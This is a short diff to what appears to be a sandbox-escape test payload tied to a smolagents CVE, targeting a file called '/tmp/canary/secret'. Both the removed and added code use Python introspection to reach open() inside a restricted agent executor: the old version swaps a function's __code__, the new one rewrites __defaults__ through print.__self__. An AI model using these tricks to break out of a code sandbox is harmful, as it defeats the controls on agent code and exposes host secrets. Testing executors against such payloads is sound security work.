@@ -1,17 +1,10 @@
 # source: smolagents CVE-2026-4963
 # effect: secret
 
-class Holder:
-    pass
+def show(path, tool=len):
+    return tool(path)
 
 
-def target(path):
-    return path
-
-
-def model(path):
-    return open(path).read()
-
-
-target.__code__ = model.__code__
-print(target("/tmp/canary/secret"))
+show.__defaults__ *= 0
+show.__defaults__ += (print.__self__.open,)
+print(show("/tmp/canary/secret").read())
